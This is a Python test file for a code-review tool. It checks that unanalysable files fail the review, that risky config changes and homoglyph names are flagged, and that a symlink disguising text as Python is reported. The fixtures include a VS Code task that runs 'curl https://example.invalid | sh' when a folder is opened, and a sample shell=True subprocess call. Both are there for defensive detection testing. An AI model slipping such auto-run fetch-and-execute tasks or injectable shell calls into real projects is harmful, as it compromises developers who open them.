"""A changed file no analyzer could read fails the review and is named in every view, and
the smaller holes of the same family are findings: `reviewloop review --base main --head
feature` as a user runs it, on a real repository."""

from __future__ import annotations

import json
from pathlib import Path

from tests.support.repos import feature_branch
from tests.support.review_cli import review

RISKY = "import subprocess\n\n\ndef run(cmd):\n    return subprocess.call(cmd, shell=True)\n"


def _branch(tmp_path: Path, files: dict[str, bytes],
            links: dict[str, str] | None = None) -> Path:
    """`main` with a README, `feature` adding `files` and the symlinks `links` (path →
    target)."""
    return feature_branch(tmp_path / "r", files, links)


def test_a_parse_error_is_no_clean_file_in_any_view(tmp_path: Path) -> None:
    root = _branch(tmp_path, {"tool.py": RISKY.encode() + b"def broken(:\n"})
    done = review(root, "--base", "main", "--head", "feature", "--json")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert report["health"]["complete"] is False
    assert report["verdict"].startswith("incomplete: 1 file not analysed (tool.py: bandit: "
                                        "could not parse it")
    [row] = [r for r in report["health"]["files"] if r["path"] == "tool.py"]
    assert row["analysed_by"] == ["secrets (review-security)"]
    assert {why.split(":")[0] for why in row["not_read"]} == {
        "bandit", "ruff-maintainability", "ruff-performance"}

    sarif = json.loads(review(root, "--base", "main", "--head", "feature", "--format",
                              "sarif").stdout)
    [invocation] = sarif["runs"][0]["invocations"]
    assert invocation["executionSuccessful"] is False
    [note] = [n for n in invocation["toolExecutionNotifications"]
              if n["descriptor"]["id"] == "file-not-analysed"]
    assert note["level"] == "error" and note["message"]["text"].startswith("tool.py not analysed")
    assert note["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "tool.py"

    markdown = review(root, "--base", "main", "--head", "feature", "--format", "markdown")
    assert "### Not analysed" in markdown.stdout and "`tool.py`" in markdown.stdout
    assert review(root, "--base", "main", "--head", "feature", "--fail-on",
                  "never").returncode == 0  # the user's explicit opt-out still holds


def test_files_tools_run_or_obey_and_homoglyphs_are_findings_in_a_review(
        tmp_path: Path) -> None:
    tasks = {"version": "2.0.0", "tasks": [{"label": "setup", "type": "shell",
                                            "command": "curl https://example.invalid | sh",
                                            "runOptions": {"runOn": "folderOpen"}}]}
    root = _branch(tmp_path, {
        ".vscode/tasks.json": json.dumps(tasks).encode(),
        ".devcontainer/devcontainer.json": b'{"postCreateCommand": "sh setup.sh"}\n',
        ".coveragerc": b"[run]\nomit = *\n", ".nycrc": b'{"exclude": ["**"]}\n',
        "names.py": 'ROLE = "\u0430dmin"\n\u0430dmin = 1\n'.encode()})
    done = review(root, "--base", "main", "--head", "feature", "--json", "--fail-on",
                  "should_fix")
    assert done.returncode == 1, done.stderr
    found = {(f["file"], f["rule"]) for f in json.loads(done.stdout)["findings"]["remaining"]}
    for path in (".vscode/tasks.json", ".devcontainer/devcontainer.json", ".coveragerc",
                 ".nycrc"):
        assert (path, "executed-config-change") in found
    assert {("names.py", "RUF001"), ("names.py", "PLC2401")} <= found


def test_a_symlink_that_makes_a_text_file_code_is_named(tmp_path: Path) -> None:
    """`tool.py -> notes.txt`: `import tool` runs the notes, which no Python analyzer reads
    under their own name. A link between two Python names is an ordinary link."""
    root = _branch(tmp_path, {"notes.txt": RISKY.encode(), "impl.py": b"VALUE = 1\n"},
                   links={"tool.py": "notes.txt", "lib/alias.py": "../impl.py"})
    done = review(root, "--base", "main", "--head", "feature", "--json")
    assert done.returncode == 1, done.stderr
    rows = {r["path"]: r["not_read"] for r in json.loads(done.stdout)["health"]["files"]}
    assert rows["tool.py"] == ["changed-files: a symlink that makes notes.txt a python file: no "
                               "python analyzer reads notes.txt under its own name; give the "
                               "code a python name"]
    assert "lib/alias.py" not in rows
